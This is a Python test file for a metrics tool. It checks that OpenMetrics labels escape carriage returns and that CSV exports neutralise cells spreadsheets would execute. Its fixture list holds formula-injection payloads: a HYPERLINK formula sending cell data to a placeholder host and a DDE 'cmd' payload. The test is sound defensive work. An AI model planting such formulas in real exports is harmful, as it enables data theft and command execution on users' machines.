"""Hostile values in what kpispec writes: OpenMetrics labels, CSV cells (issue 23, finding 8)."""

from __future__ import annotations

import datetime as dt
from pathlib import Path

import pyarrow as pa
import pytest
from kpispec.extensions import SinkContext
from kpispec_builtins import openmetrics_sink

parser = pytest.importorskip("prometheus_client.openmetrics.parser")


def test_openmetrics_carriage_returns_in_labels_read_back(tmp_path: Path) -> None:
    """A carriage return in a label value is a line break for every line-based reader
    (Python's universal newlines split there); it is written escaped, as ``\\n``."""
    table = pa.table({"period": [dt.date(2024, 1, 1)] * 3,
                      "region": ["a\rb", "c\r\nd", "e\nf\\"],
                      "deals": [1.0, 2.0, 3.0]})
    target = tmp_path / "kpis.prom"
    writer = openmetrics_sink.open_openmetrics(str(target), table.schema,
                                               SinkContext(dimensions=("region",)))
    writer.write(table.to_batches()[0])
    writer.close()
    text = target.read_text(encoding="utf-8")  # universal newlines, as a reader opens it
    assert "\r" not in target.read_bytes().decode()
    families = {f.name: f for f in parser.text_string_to_metric_families(text)}
    assert sorted((s.labels["region"], s.value) for s in families["kpispec_deals"].samples) == [
        ("a\nb", 1.0), ("c\nd", 2.0), ("e\nf\\", 3.0)]


CSV_PROJECT = """
models:
  - name: deals
    table: deals
    time: created_at
    columns: [created_at, amount, region]
    dimensions: [region]
metrics:
  - name: revenue
    type: simple
    measure: {model: deals, agg: sum, expr: amount}
"""
FORMULAS = ["=HYPERLINK(\"http://x/?\"&A1)", "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1)",
            "\tx", "-5", "plain"]


@pytest.fixture
def csv_project(tmp_path: Path) -> tuple[Path, str]:
    import duckdb

    (tmp_path / "kpispec.yaml").write_text("name: csv\n", encoding="utf-8")
    (tmp_path / "specs.yaml").write_text(CSV_PROJECT, encoding="utf-8")
    con = duckdb.connect(str(tmp_path / "w.duckdb"))
    con.execute("CREATE TABLE deals (created_at TIMESTAMP, amount DOUBLE, region VARCHAR)")
    con.executemany("INSERT INTO deals VALUES (TIMESTAMP '2024-01-02', ?, ?)",
                    [(-5.0 - i, region) for i, region in enumerate(FORMULAS)])
    con.close()
    return tmp_path, f"duckdb:///{tmp_path / 'w.duckdb'}"


@pytest.mark.parametrize("flag", [[], ["--csv-safe"], ["--no-csv-safe"]])
def test_csv_text_cells_that_spreadsheets_would_run(csv_project: tuple[Path, str],
                                                    flag: list[str]) -> None:
    """Issue 23: CSV cells starting with =, +, -, @ were written raw. Text cells are escaped
    with a leading ' by default; numbers (negative ones too) never; --no-csv-safe writes
    every value as it is."""
    import csv

    from click.testing import CliRunner
    from kpispec.cli import main

    root, url = csv_project
    out = root / "out.csv"
    result = CliRunner().invoke(main, ["run", "revenue", "-p", str(root), "--source", url,
                                       "--by", "region", "--grain", "year",
                                       "--from", "2024-01-01", "--to", "2025-01-01",
                                       "--sink", str(out), *flag])
    assert result.exit_code == 0, result.output
    with open(out, newline="", encoding="utf-8") as file:
        rows = list(csv.reader(file))
    assert rows[0] == ["period", "region", "revenue"]
    got = {region: revenue for _, region, revenue in rows[1:]}
    raw = flag == ["--no-csv-safe"]
    expected = {r if raw or r in ("-5", "plain") else "'" + r: repr(-5.0 - i)
                for i, r in enumerate(FORMULAS)}
    assert got == expected
